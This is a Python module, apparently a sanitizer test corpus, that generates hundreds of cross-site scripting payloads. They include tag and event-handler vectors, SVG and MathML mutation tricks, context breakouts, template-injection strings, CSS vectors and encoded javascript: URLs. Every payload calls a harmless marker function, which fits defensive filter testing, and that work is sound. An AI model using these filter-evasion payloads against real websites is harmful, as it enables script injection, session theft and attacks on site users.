"""S17: what has been used to make a page run a stranger's script. Each payload runs ran(<its number>) when it works.

Kinds after the OWASP cheat sheet on filter evasion (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html,
2026-11-23) and what is known of mutation (https://research.securitum.com/dompurify-bypass-using-mxss/, 2026-11-23), made by rule.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "ran(§)"
"""§ becomes the payload's number"""

_TAGS = (
    "<img src=x onerror=^>", "<img src=x onerror=^//", "<IMG SRC=x OnErRoR=^>", "<img/src=x/onerror=^>", "<img src='x'onerror='^'>",
    '<img src="x"\nonerror\n=\n"^">', "<img src=`x`onerror=^>", "<svg onload=^>", "<svg/onload=^>", "<svg><script>^</script>",
    "<svg><script href='data:,^'/>", "<svg><animate onbegin=^ attributeName=x dur=1s>", "<svg><set onbegin=^ attributename=x>",
    "<svg><a xlink:href='javascript:^'><text y=20>x</text></a>", "<svg><use href='data:image/svg+xml,<svg id=x onload=^/>#x'/>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.^</script>'>", "<svg><style><img src=x onerror=^></style>",
    "<svg><desc><![CDATA[</desc><script>^</script>]]></svg>", "<svg><image href=x onerror=^>", "<svg><title><img src=x onerror=^>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=^&gt;'>",
    "<math href='javascript:^'>x</math>", "<math><mi xlink:href='javascript:^'>x", "<math><annotation-xml encoding='text/html'><img src=x onerror=^>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=^>", "<math><mtext><mglyph><svg><mtext><style><path id='</style><img src=x onerror=^>'>",
    "<noscript><p title='</noscript><img src=x onerror=^>'>", "<style><style/><img src=x onerror=^>", "<p id='</style><img src=x onerror=^>'><style>",
    "<listing>&lt;img src=x onerror=^&gt;</listing>", "<xmp><p title='</xmp><img src=x onerror=^>'>", "<plaintext/><img src=x onerror=^>",
    "<select><style></select><img src=x onerror=^></style></select>", "<table><td><img src=x onerror=^>", "<template><img src=x onerror=^></template>",
    "<template shadowrootmode=open><img src=x onerror=^></template>", "<div><template><s><template><s><img src=x onerror=^>",
    "<script>^</script>", "<ScRiPt>^</sCrIpT>", "<script/x>^</script>", "<script\x0c>^</script>", "<scr<script>ipt>^</scr</script>ipt>",
    "<script src='data:text/javascript,^'></script>", "<script type=module>^</script>", "<script>^", "<<script>^//<</script>",
    "<iframe srcdoc='<script>parent.^</script>'>", "<iframe srcdoc='&lt;img src=x onerror=parent.^&gt;'>", "<iframe src='javascript:parent.^'>",
    "<iframe onload=^>", "<object data='javascript:^'>", "<object data='data:text/html,<script>parent.^</script>'>", "<embed src='javascript:^'>",
    "<embed src='data:image/svg+xml,<svg onload=^ xmlns=\"http://www.w3.org/2000/svg\"/>'>", "<base href='javascript:^//'>", "<frameset onload=^>",
    "<meta http-equiv=refresh content='0;url=javascript:^'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>^</script>'>",
    "<link rel=stylesheet href='data:text/css,*{x:y}' onload=^>", "<link rel=import href='data:text/html,<script>^</script>'>", "<body onload=^>",
    "<video><source onerror=^>", "<video src=x onerror=^>", "<audio src=x onerror=^>", "<video poster='javascript:^'>", "<details open ontoggle=^>x",
    "<input autofocus onfocus=^>", "<select autofocus onfocus=^>", "<textarea autofocus onfocus=^>", "<keygen autofocus onfocus=^>", "<a autofocus onfocus=^ tabindex=1>x",
    "<marquee onstart=^>x", "<marquee loop=1 width=0 onfinish=^>", "<isindex action='javascript:^' type=image>", "<form><button formaction='javascript:^'>x",
    "<form action='javascript:^'><input type=submit>", "<input type=image src=x onerror=^>", "<x onclick=^ contenteditable>x", "<x oncopy=^>x",
    "<x onfocusin=^ tabindex=1 autofocus>", "<style>@keyframes x{}</style><x style='animation-name:x' onanimationstart=^>", "<x onpointerover=^>x",
    "<x onwebkitanimationend=^ style='animation:x .1s'>", "<dialog open onclose=^>", "<div popover id=p onbeforetoggle=^>", "<button popovertarget=p>x",
    "<a href='javascript:^'>x</a>", "<area href='javascript:^'>", "<a href=x onmouseover=^>x</a>", "<slot onslotchange=^>", "<img srcset='x 1x' onerror=^>",
    "<picture><source srcset=x><img onerror=^ src=x></picture>", "<image src=x onerror=^>", "<bgsound src='javascript:^'>", "<layer src='javascript:^'>",
    "<applet code=x onerror=^>", "<portal src='javascript:^'>", "<fencedframe src='data:,'>", "<track onerror=^ src=x>", "<x onscrollend=^ style=overflow:auto>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>^</x:script>", "<!--><img src=x onerror=^>-->", "<!--[if gte IE 4]><script>^</script><![endif]-->",
    "<![CDATA[><img src=x onerror=^>]]>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=^>'>]>&y;", "<div hx-get='data:text/html,<script>^</script>' hx-trigger=load>",
    "<div hx-on:click=^ hx-trigger=load>", "<div hx-vals='js:{x:^}' hx-get=/ hx-trigger=load>", "<div hx-trigger='load[^]' hx-get=/>", "<div data-hx-on-htmx-load=^>",
    "<div is=desk-sheet data-live='javascript:^'>", "<b data-confirm='<img src=x onerror=^>' autofocus>x</b>",
)  # fmt: skip
_OUT = (
    '"><img src=x onerror=^>', "'><img src=x onerror=^>", "`><img src=x onerror=^>", "><img src=x onerror=^>", '" autofocus onfocus=^ x="', "' autofocus onfocus=^ x='",
    "</textarea><img src=x onerror=^>", "</title><img src=x onerror=^>", "</style><img src=x onerror=^>", "</script><img src=x onerror=^>", "</noscript><img src=x onerror=^>",
    "</template><img src=x onerror=^>", "</iframe><img src=x onerror=^>", "--><img src=x onerror=^>", "--!><img src=x onerror=^>", "]]><img src=x onerror=^>",
    '";^;//', "';^;//", "\\';^;//", "\\\";^;//", "`;^;//", "${^}", "#{^}", "{{^}}", "{%^%}", "{{constructor.constructor('^')()}}", "<%=^%>", "[[^]]", "@(^)", "*{^}", "{^}",
    "</option></select><img src=x onerror=^>", "</svg><img src=x onerror=^>", "*/^;/*", "\u2028^//", "\n^\n", "\\u003cimg src=x onerror=^\\u003e", "\\x3cimg src=x onerror=^\\x3e",
    "&lt;img src=x onerror=^&gt;", "&#60;img src=x onerror=^&#62;", "&amp;lt;img src=x onerror=^&amp;gt;", "%3Cimg src=x onerror=^%3E", "+ADw-img src=x onerror=^+AD4-",
    "\uff1cimg src=x onerror=^\uff1e", "\u02c2img src=x onerror=^\u02c3", "\x00<img src=x onerror=^>", "<\x00img src=x onerror=^>", "<img src=x one\x00rror=^>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=^ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=^//>\\x3e",
    "'\"--></style></script><svg onload=^>", '{"x":"</script><script>^</script>"}', "![x](javascript:^)", "[x](javascript:^)", "[x](data:text/html,<script>^</script>)",
    "<javascript:^>", "[x]: javascript:^", "https://a.example/\"onmouseover=^ x=\"", "https://a.example/'><script>^</script>", "http://a.example/<img src=x onerror=^>",
    "@<img src=x onerror=^>", "#<img src=x onerror=^>", "<img src=x onerror=^>@a.example", "=HYPERLINK(\"javascript:^\",\"x\")",
)  # fmt: skip
_CSS = (
    "<style>@import 'javascript:^';</style>", "<style>*{background:url(javascript:^)}</style>", "<p style='background:url(javascript:^)'>x", "<p style='width:expression(^)'>x",
    "<p style='-moz-binding:url(data:,^)'>x", "<p style='behavior:url(javascript:^)'>x", "<link rel=stylesheet href='javascript:^'>", "<style>li{list-style:url('javascript:^')}</style><li>x",
    "<xss style='xss:expression(^)'>", "<div style='position:fixed;inset:0;background:red'>x</div>", "<style>body{display:none}</style>", "<p style=\"content:'\\3c img src=x onerror=^\\3e'\">x",
)  # fmt: skip


def encodings(code: str) -> Iterator[str]:
    """javascript:… in the ways in which filters have been passed."""
    plain = f"javascript:{code}"
    yield plain
    yield f"JaVaScRiPt:{code}"
    yield f" \x01\x1fjavascript:{code}"
    yield plain.replace("javascript", "java\tscript")
    yield plain.replace("javascript", "java\nscript")
    yield plain.replace("javascript", "java\r\nscript")
    yield "".join(f"&#{ord(sign)};" for sign in plain)
    yield "".join(f"&#x{ord(sign):x};" for sign in plain)
    yield "".join(f"&#{ord(sign):07d}" for sign in "javascript:") + code
    yield plain.replace(":", "&colon;")
    yield plain.replace("javascript", "java&Tab;script").replace(":", "&NewLine;:")
    yield "".join(f"%{ord(sign):02x}" for sign in "javascript:") + code
    yield f"javascript://%0a{code}"
    yield f"javascript:void'{code}'"
    yield f"\\u006aavascript:{code}"
    yield f"data:text/html,<script>{code}</script>"
    yield "data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4="
    yield f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>"
    yield f"vbscript:{code}"
    yield f"view-source:javascript:{code}"
    yield f"feed:javascript:{code}"
    yield f"blob:javascript:{code}"
    yield f"javascript\u200b:{code}"
    yield f"\ufeffjavascript:{code}"


def _templates() -> Iterator[str]:
    yield from (each.replace("^", RUN) for each in (*_TAGS, *_OUT, *_CSS))
    for address in encodings(RUN):
        yield f'<a href="{address}">x</a>'
        yield f"<iframe src='{address}'></iframe>"
        yield f'<form action="{address}"><button autofocus>x</button></form>'
        yield f'"><a href="{address}">x'
        yield f"<svg><a xlink:href='{address}'><text y=9>x</text></a></svg>"
        yield address


ADDRESSES = [each.replace("§", "0") for each in encodings(RUN)]
"""what might be given where an address is expected"""
PAYLOADS = [
    each.replace("§", str(number)).replace("\x00", "") for number, each in enumerate(dict.fromkeys(_templates()))
]


def bundles(size: int, most: int) -> list[str]:
    """All payloads, `size` at a time, in texts of at most `most` characters; a longer one stands alone and is cut."""
    made, text, count = [], "", 0
    for payload in PAYLOADS:
        if text and (count >= size or len(text) + len(payload) + 1 > most):
            made.append(text)
            text, count = "", 0
        text, count = (f"{text} {payload}" if text else payload)[:most], count + 1
    return [*made, text]
